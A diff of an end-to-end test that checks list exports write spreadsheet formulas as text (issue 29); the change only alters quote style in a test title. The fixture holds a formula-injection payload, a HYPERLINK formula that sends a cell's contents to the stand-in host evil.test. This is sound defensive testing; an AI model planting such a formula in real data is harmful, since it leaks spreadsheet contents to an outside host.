@@ -6,7 +6,7 @@ import { api, unique } from '../support/e2e-crud.js';
 describe('list exports write formulas as text (issue 29)', () => {
   const browser = useBrowser();
 
-  it("a handling charge named like a spreadsheet formula exports as text: the cell starts with an apostrophe", async () => {
+  it('a handling charge named like a spreadsheet formula exports as text: the cell starts with an apostrophe', async () => {
     const marker = unique('Probe');
     const name = `=HYPERLINK("http://evil.test/?"&A1,"${marker}")`;
     const made = await api<{ _id: string }>('POST', '/handling-charges', { charge_type: name, amount: 12.5 }, 'warehouse');
